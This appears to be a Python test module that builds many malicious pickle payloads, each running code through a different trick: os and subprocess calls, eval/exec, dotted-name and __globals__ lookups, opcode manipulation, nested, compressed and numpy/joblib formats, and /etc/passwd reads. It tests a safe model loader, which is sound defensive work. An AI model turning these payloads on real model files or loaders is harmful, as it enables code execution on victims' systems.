"""Pickles that run code if they are trusted, each in a different way.

A case is a function of the file that its code would write. ``python -m tests.attack_pickles FOLDER`` builds
each with plain pickle, in a separate process, to show that it is an attack.
"""

import bz2
import gzip
import io
import lzma
import os
import pickle
import pickletools
import sys
import zlib
from pathlib import Path

CASES = {}
#: Attacks that need a terminal or a browser, or have no visible effect.
SILENT = set()


def case(build, name=None):
    CASES[name or build.__name__.replace("_", " ")] = build
    return build


def silent(build):
    SILENT.add(build.__name__.replace("_", " "))
    return case(build)


def text(word):
    raw = word.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def name(module, attribute):
    return text(module) + text(attribute) + b"\x93"


def value(thing):
    """The opcodes of a plain value, without memo, so that they can stand anywhere."""
    return pickletools.optimize(pickle.dumps(thing, 3))[2:-1]


def called(callee, *arguments):
    """The opcodes of a call, of parts that are opcodes."""
    return callee + b"(" + b"".join(arguments) + b"tR"


def call(module, attribute, *values):
    return called(name(module, attribute), *map(value, values))


def whole(*parts):
    return b"\x80\x04" + b"".join(parts) + b"."


def code(marker):
    return f"open({str(marker)!r}, 'w').close()"


def shell(marker):
    return f"touch {marker}"


def estimator(state, module="sklearn.linear_model._logistic", kind="LogisticRegression"):
    """The opcodes of an estimator with a state, that is opcodes of a dict's members."""
    return name(module, kind) + b")\x81}(" + state + b"ub"


# One call of a well-known function.

for at, (module, attribute, make) in {
    "os system": ("os", "system", lambda m: (shell(m),)),
    "posix system": ("posix", "system", lambda m: (shell(m),)),
    "os popen": ("os", "popen", lambda m: (shell(m),)),
    "os mkdir": ("os", "mkdir", lambda m: (str(m),)),
    "os spawn": ("os", "spawnlp", lambda m: (os.P_WAIT, "touch", "touch", str(m))),
    "subprocess call": ("subprocess", "call", lambda m: (["touch", str(m)],)),
    "subprocess Popen": ("subprocess", "Popen", lambda m: (["touch", str(m)],)),
    "subprocess getoutput": ("subprocess", "getoutput", lambda m: (shell(m),)),
    "pty spawn": ("pty", "spawn", lambda m: (["touch", str(m)],)),
    "builtins eval": ("builtins", "eval", lambda m: (code(m),)),
    "builtins exec": ("builtins", "exec", lambda m: (code(m),)),
    "builtins open": ("builtins", "open", lambda m: (str(m), "w")),
    "io open": ("io", "open", lambda m: (str(m), "w")),
    "io FileIO": ("_io", "FileIO", lambda m: (str(m), "w")),
    "pathlib touch": ("pathlib", "Path.touch", None),
    "runpy": ("runpy", "_run_code", lambda m: (code(m), {})),
    "timeit": ("timeit", "timeit", lambda m: (code(m), "pass", __import__("time").perf_counter, 1)),
    "cProfile": ("cProfile", "run", lambda m: (code(m), os.devnull)),
    "profile": ("profile", "run", lambda m: (code(m), os.devnull)),
    "trace": ("trace", "Trace.run", None),
    "doctest": ("doctest", "debug_script", lambda m: (code(m), True)),
    "bdb": ("bdb", "Bdb", None),
    "code": ("code", "interact", None),
    "shutil": ("shutil", "copyfile", lambda m: (__file__, str(m))),
    "tempfile": ("tempfile", "mktemp", None),
    "logging dictConfig": (
        "logging.config",
        "dictConfig",
        lambda m: (
            {
                "version": 1,
                "handlers": {"h": {"()": "os.mkdir", "path": str(m)}},
                "root": {"handlers": ["h"]},
            },
        ),
    ),
    "logging handler": ("logging", "FileHandler", lambda m: (str(m),)),
    "sqlite": ("sqlite3", "connect", lambda m: (str(m),)),
    "numpy save": ("numpy", "save", lambda m: (f"{m}.npy", [1])),
    "numpy savetxt": ("numpy", "savetxt", lambda m: (str(m), [1])),
    "numpy memmap": ("numpy", "memmap", lambda m: (str(m), "u1", "w+", 0, (1,))),
    "numpy fromfile": ("numpy", "fromfile", None),
    "numpy runstring": ("numpy.testing._private.utils", "runstring", lambda m: (code(m), {})),
    "numpy rundocs": ("numpy.testing", "rundocs", None),
    "numpy apply": ("numpy", "apply_along_axis", None),
    "numpy f2py": ("numpy.f2py", "compile", None),
    "pandas eval": ("pandas", "eval", lambda m: ("__import__('os').mkdir(" + repr(str(m)) + ")",)),
    "pandas read pickle": ("pandas", "read_pickle", None),
    "pandas to pickle": ("pandas", "to_pickle", lambda m: (1, str(m))),
    "joblib dump": ("joblib", "dump", lambda m: (1, str(m))),
    "joblib Memory": ("joblib.memory", "MemorizedFunc", None),
    "sklearn cython": ("sklearn.utils._testing", "TempMemmap", None),
    "sklearn conftest": ("sklearn.conftest", "raccoon_face_or_skip", None),
    "sklearn check": ("sklearn.utils._testing", "_convert_container", None),
    "sklearn datasets": ("sklearn.datasets", "fetch_file", None),
    "sklearn delete folder": ("sklearn.utils._testing", "_delete_folder", None),
    "sklearn module's own import": ("sklearn.tree._classes", "np", None),
    "scipy loadmat": ("scipy.io", "savemat", lambda m: (f"{m}.mat", {"a": 1})),
    "importlib": ("importlib", "import_module", lambda m: ("antigravity",)),
    "builtins import": ("builtins", "__import__", lambda m: ("this",)),
    "webbrowser": ("webbrowser", "open", lambda m: ("http://127.0.0.1:9/",)),
    "ctypes": ("ctypes", "CDLL", lambda m: (None,)),
    "pdb": ("pdb", "run", lambda m: (code(m),)),
    "pip": ("pip", "main", lambda m: (["--version"],)),
    "sys exit": ("sys", "exit", lambda m: (0,)),
    "socket": ("socket", "create_connection", lambda m: (("127.0.0.1", 9),)),
    "weakref": ("weakref", "finalize", None),
    "multiprocessing": ("multiprocessing.util", "spawnv_passfds", None),
    "builtins breakpoint": ("builtins", "breakpoint", lambda m: ()),
    "antigravity": ("antigravity", "webbrowser", None),
    "test package": ("test.support.script_helper", "assert_python_ok", None),
    "types FunctionType": ("types", "FunctionType", None),
    "types CodeType": ("types", "CodeType", None),
    "random": ("random", "_os", None),
}.items():
    if make is None:
        SILENT.add(at)
        case(lambda m, where=(module, attribute): whole(name(*where)), at)
    else:
        case(lambda m, w=(module, attribute), make=make: whole(call(*w, *make(m))), at)
SILENT |= {
    "importlib",
    "builtins import",
    "webbrowser",
    "ctypes",
    "pdb",
    "pip",
    "sys exit",
    "socket",
    "builtins breakpoint",
    "runpy",
    "doctest",
    "timeit",
    "os popen",
    "subprocess Popen",
    "io FileIO",
    "numpy save",
    "scipy loadmat",
    "pandas eval",
}


# Chains of harmless steps.


@case
def getattr_chain(marker):
    module = call("importlib", "import_module", "os")
    return whole(
        called(called(name("builtins", "getattr"), module, value("mkdir")), text(str(marker)))
    )


@case
def partial_and_map(marker):
    done = called(name("functools", "partial"), name("os", "mkdir"), text(str(marker)))
    return whole(called(done))


@case
def methodcaller(marker):
    path = call("pathlib", "PosixPath", str(marker))
    return whole(called(call("operator", "methodcaller", "touch"), path))


@case
def attrgetter(marker):
    system = called(
        call("operator", "attrgetter", "mkdir"), call("importlib", "import_module", "os")
    )
    return whole(called(system, text(str(marker))))


@case
def map_in_a_list(marker):
    mapped = called(name("builtins", "map"), name("os", "mkdir"), value([str(marker)]))
    return whole(called(name("builtins", "list"), mapped))


@case
def reduce_of_functools(marker):
    return whole(
        called(name("functools", "reduce"), name("os", "mkdir"), value([str(marker), 0o700]))
    )


@case
def defaultdict_with_a_factory(marker):
    made = called(name("functools", "partial"), name("os", "mkdir"), text(str(marker)))
    table = called(name("collections", "defaultdict"), made)
    return whole(called(name("operator", "getitem"), table, value("any")))


@silent
def defaultdict_that_waits(marker):
    return whole(called(name("collections", "defaultdict"), name("os", "getcwd")))


# Names that an allowed module has imported from elsewhere.


@case
def dotted_name(marker):
    return whole(
        called(name("sklearn.utils.validation", "warnings.sys.modules.get"), value("os")),
        b"0",
        call("os", "mkdir", str(marker)),
    )


@case
def dotted_os_of_an_allowed_module(marker):
    return whole(call("sklearn.pipeline", "warnings.os.mkdir", str(marker)))


SILENT.add("dotted os of an allowed module")


@case
def dotted_name_of_numpy(marker):
    return whole(call("numpy", "lib.format.open_memmap", str(marker), "w+", "u1", [1]))


@case
def dotted_globals_of_a_function(marker):
    exec_ = call("sklearn.base", "clone.__globals__.get", "__builtins__")
    return whole(
        called(called(name("operator", "itemgetter"), value("exec")), exec_),
        text(code(marker)),
        b"\x85R",
    )


@case
def subclasses_of_object(marker):
    return whole(call("builtins", "object.__subclasses__"), b"0", call("os", "mkdir", str(marker)))


# Opcodes that hide the name, or make it.


@case
def opcode_global(marker):
    return b"cos\nmkdir\n(V" + str(marker).encode() + b"\ntR."


@case
def opcode_inst(marker):
    return b"(V" + str(marker).encode() + b"\nios\nmkdir\n."


@case
def opcode_obj(marker):
    return b"(cos\nmkdir\nV" + str(marker).encode() + b"\no."


@case
def names_of_python_2(marker):
    return b"c__builtin__\neval\n(V" + code(marker).encode() + b"\ntR."


@case
def name_from_the_memo(marker):
    return whole(
        text("os"), b"\x940", text("mkdir"), b"\x940h\x00h\x01\x93", text(str(marker)), b"\x85R"
    )


@case
def name_that_is_made_by_a_call(marker):
    made = called(name("builtins", "str"), value("os"))
    return whole(made, text("mkdir"), b"\x93", text(str(marker)), b"\x85R")


@silent
def opcode_extension(marker):
    return b"\x80\x02\x82\x01."


@silent
def opcode_persistent(marker):
    return b"Pos.system\n."


@silent
def opcode_binary_persistent(marker):
    return whole(text("os.system"), b"Q")


@silent
def opcode_buffer(marker):
    return b"\x80\x05\x97."


@case
def newobj_with_arguments(marker):
    return whole(name("subprocess", "Popen"), b")\x81", b"0", call("os", "mkdir", str(marker)))


@case
def popped_again(marker):
    return whole(call("os", "mkdir", str(marker)), b"0", estimator(b""))


# Inside an object that looks like a model.


@case
def member_of_an_estimator(marker):
    return whole(estimator(text("coef_") + call("os", "mkdir", str(marker))))


@silent
def function_of_a_transformer(marker):
    members = text("func") + name("os", "system")
    return whole(
        estimator(members, "sklearn.preprocessing._function_transformer", "FunctionTransformer")
    )


@silent
def function_with_keywords(marker):
    members = (
        text("func")
        + name("xgboost.core", "Booster")
        + text("kw_args")
        + value({"model_file": "/etc/passwd"})
    )
    return whole(
        estimator(members, "sklearn.preprocessing._function_transformer", "FunctionTransformer")
    )


@silent
def reader_of_files(marker):
    members = text("input") + value("filename")
    return whole(estimator(members, "sklearn.feature_extraction.text", "CountVectorizer"))


@silent
def memory_of_a_pipeline(marker):
    members = text("memory") + name("joblib.memory", "Memory")
    return whole(estimator(members, "sklearn.pipeline", "Pipeline"))


@case
def setstate_of_its_own(marker):
    first = estimator(text("__setstate__") + name("os", "mkdir"))
    return whole(first, text(str(marker)), b"b")


@case
def class_that_is_changed(marker):
    kind = name("sklearn.linear_model._logistic", "LogisticRegression")
    slots = b"N}" + text("__setstate__") + name("os", "mkdir") + b"s\x86b"
    return whole(
        name("sklearn.svm._classes", "SVC"), b"0", kind, slots, b")\x81", text(str(marker)), b"b"
    )


SILENT.add("class that is changed")


@silent
def class_that_is_changed_by_allowed_names(marker):
    kind = name("sklearn.gaussian_process.kernels", "RBF")
    return whole(kind, b"N}", text("__call__"), name("numpy", "sum"), b"s\x86b")


@silent
def object_of_another_class(marker):
    made = name("sklearn.gaussian_process.kernels", "RBF") + b")\x81"
    return whole(made, b"N}", text("__class__"), name("sklearn.svm._classes", "SVC"), b"s\x86b")


@silent
def constant_that_is_changed(marker):
    nat = called(name("pandas._libs.tslibs.nattype", "_nat_unpickle"), value(None))
    return whole(nat, b"}", text("year"), value(1), b"sb")


@silent
def module_that_is_a_path(marker):
    return whole(name("sklearn.svm./../../tmp/evil", "Evil"))


@silent
def function_that_is_changed(marker):
    return whole(
        name("sklearn.utils.validation", "check_array"), b"}", text("__wrapped__"), value(1), b"sb"
    )


@silent
def module_that_is_changed(marker):
    return whole(name("sklearn", "utils"), b"}", text("check_array"), value(1), b"sb")


@case
def partial_of_an_allowed_name(marker):
    partial = called(name("functools", "partial"), name("sklearn.utils.validation", "check_array"))
    state = name("os", "mkdir") + b"(" + text(str(marker)) + b"t}N"
    return whole(called(partial + b"(" + state + b"tb"))


@case
def metric_of_a_distance(marker):
    return whole(
        called(
            name("sklearn.metrics._dist_metrics", "newObj"),
            name("sklearn.metrics._dist_metrics", "PyFuncDistance64"),
        ),
        b"0",
        call("os", "mkdir", str(marker)),
    )


def distribution_of_scipy(marker):
    made = name("scipy.stats._continuous_distns", "norm_gen") + b")\x81"
    import scipy.stats

    state = {**scipy.stats.norm.__getstate__(), "_parse_arg_template": code(marker)}
    plain = {
        key: each for key, each in state.items() if isinstance(each, str | int | float | type(None))
    }
    return made + value(plain) + b"b"


# numpy's ways to load a nested pickle, and to read other memory.


@silent
def scalar_of_objects(marker):
    dtype = call("numpy", "dtype", "O8", False, True)
    return whole(
        called(
            name("numpy._core.multiarray", "scalar"),
            dtype,
            value(whole(call("os", "mkdir", str(marker)))),
        )
    )


@silent
def reconstruct_of_a_subclass(marker):
    return whole(
        called(
            name("numpy._core.multiarray", "_reconstruct"),
            name("numpy", "recarray"),
            value((0,)),
            value(b"b"),
        )
    )


@silent
def reconstruct_of_a_giant(marker):
    return whole(
        called(
            name("numpy._core.multiarray", "_reconstruct"),
            name("numpy", "ndarray"),
            value((1 << 40,)),
            value(b"b"),
        )
    )


@silent
def objects_in_a_type_of_bytes(marker):
    member = call("numpy", "dtype", "O8", False, True)
    member += b"(" + b"".join(map(value, (3, "|", None, None, None, -1, -1, 63))) + b"tb"
    fields = b"}" + text("a") + member + value(0) + b"\x86s"
    dtype = call("numpy", "dtype", "V8", False, True)
    state = (
        b"("
        + b"".join(
            [value(3), value("|"), value(None), value(("a",)), fields, value(8), value(1), value(0)]
        )
        + b"tb"
    )
    array = called(
        name("numpy._core.multiarray", "_reconstruct"),
        name("numpy", "ndarray"),
        value((0,)),
        value(b"b"),
    )
    return whole(
        array, b"(", value(1), value((1,)), dtype, state, value(False), value(b"A" * 8), b"tb"
    )


@silent
def wide_type_whose_members_change(marker):
    count = 1500
    names = tuple(f"x{at}" for at in range(count))
    member = call("numpy", "dtype", "V8", False, True)
    fields = b"}(" + b"".join(
        text(each) + member + value(8 * at) + b"\x86" for at, each in enumerate(names)
    )
    parts = (3, "|", None, names)
    state = b"(" + b"".join(map(value, parts)) + fields + b"u"
    state += b"".join(map(value, (8 * count, 1, 0))) + b"t"
    return whole(call("numpy", "dtype", f"V{8 * count}", False, True), state, b"b")


@silent
def type_that_changes_under_its_array(marker):
    dtype = call("numpy", "dtype", "V8", False, True) + b"\x94"
    array = called(
        name("numpy._core.multiarray", "_reconstruct"),
        name("numpy", "ndarray"),
        value((0,)),
        value(b"b"),
    )
    return whole(array, b"(", value(1), value((1,)), dtype, value(False), value(b"A" * 8), b"tb")


@case
def objects_of_numpy_load(marker):
    import numpy as np

    class Evil:
        def __reduce__(self):
            return os.mkdir, (str(marker),)

    stream = io.BytesIO()
    np.save(stream, np.array([Evil()], dtype=object), allow_pickle=True)
    file = call("io", "BytesIO", stream.getvalue())
    return whole(called(name("numpy", "load"), file, value(None), value(True)))


@case
def pickle_in_the_pickle(marker):
    return whole(call("pickle", "loads", whole(call("os", "mkdir", str(marker)))))


@case
def pickle_of_the_c_module(marker):
    return whole(call("_pickle", "loads", whole(call("os", "mkdir", str(marker)))))


@case
def joblib_in_the_pickle(marker):
    stream = call("io", "BytesIO", whole(call("os", "mkdir", str(marker))))
    return whole(called(name("joblib", "load"), stream))


@case
def random_generator_with_a_constructor(marker):
    made = called(
        name("numpy.random._pickle", "__generator_ctor"), text(str(marker)), name("os", "mkdir")
    )
    return whole(made)


@case
def index_of_another_class(marker):
    stuff = b"}" + text("args") + value(["touch", str(marker)]) + b"s"
    return whole(
        called(name("pandas.core.indexes.base", "_new_Index"), name("subprocess", "Popen"), stuff),
        b"0",
        call("os", "mkdir", str(marker)),
    )


@case
def reconstructor(marker):
    made = called(
        name("copyreg", "_reconstructor"),
        name("subprocess", "Popen"),
        name("builtins", "object"),
        value(None),
    )
    return whole(made, b"0", call("os", "mkdir", str(marker)))


@case
def newobj_of_copyreg(marker):
    return whole(
        called(name("copyreg", "__newobj__"), name("io", "FileIO")),
        b"0",
        call("os", "mkdir", str(marker)),
    )


@case
def registry_of_copyreg(marker):
    register = called(name("copyreg", "add_extension"), value("os"), value("mkdir"), value(240))
    return whole(register, b"0\x82\xf0", text(str(marker)), b"\x85R")


@silent
def tree_of_more_outputs(marker):
    classes = call("numpy", "frombuffer", b"\x02" + bytes(7), "i8")
    return whole(called(name("sklearn.tree._tree", "Tree"), value(1), classes, value(1 << 20)))


def joblib_array(dtype, payload):
    """joblib's format for an array, followed by any bytes."""
    state = b"}(" + text("subclass") + name("numpy", "ndarray") + text("shape") + value((1,))
    state += text("order") + value("C") + text("dtype") + dtype + text("allow_mmap") + value(False)
    state += text("numpy_array_alignment_bytes") + value(None) + b"ub"
    return name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + payload


def objects_type():
    state = b"(" + b"".join(map(value, (3, "|", None, None, None, -1, -1, 63))) + b"tb"
    return call("numpy", "dtype", "O8", False, True) + state


@case
def array_of_objects_by_joblib(marker):
    return whole(joblib_array(objects_type(), whole(call("os", "mkdir", str(marker)))))


@case
def compressed_by_zlib(marker):
    return zlib.compress(whole(call("os", "mkdir", str(marker))))


@case
def compressed_by_gzip(marker):
    return gzip.compress(whole(call("os", "mkdir", str(marker))))


@case
def compressed_by_bz2(marker):
    return bz2.compress(whole(call("os", "mkdir", str(marker))))


@case
def compressed_by_lzma(marker):
    return lzma.compress(whole(call("os", "mkdir", str(marker))))


@silent
def array_of_files_by_old_joblib(marker):
    state = (
        b"}("
        + text("filename")
        + value("/etc/passwd")
        + text("subclass")
        + name("numpy", "ndarray")
        + b"ub"
    )
    return whole(name("joblib.numpy_pickle", "NDArrayWrapper"), b")\x81", state)


def main(folder):
    """Build each case in a separate process, and print those that had no effect."""
    import joblib
    import sklearn.linear_model  # noqa: F401

    for title, build in CASES.items():
        marker = Path(folder, title.replace(" ", "-"))
        content = build(marker)
        if title in SILENT:
            continue
        child = os.fork()
        if not child:
            os.dup2(os.open(os.devnull, os.O_WRONLY), 1)
            os.dup2(1, 2)
            try:
                joblib.load(io.BytesIO(content))
            finally:
                os._exit(0)
        os.waitpid(child, 0)
        if not marker.exists():
            sys.stdout.write(f"{title}\n")


if __name__ == "__main__":
    main(sys.argv[1])
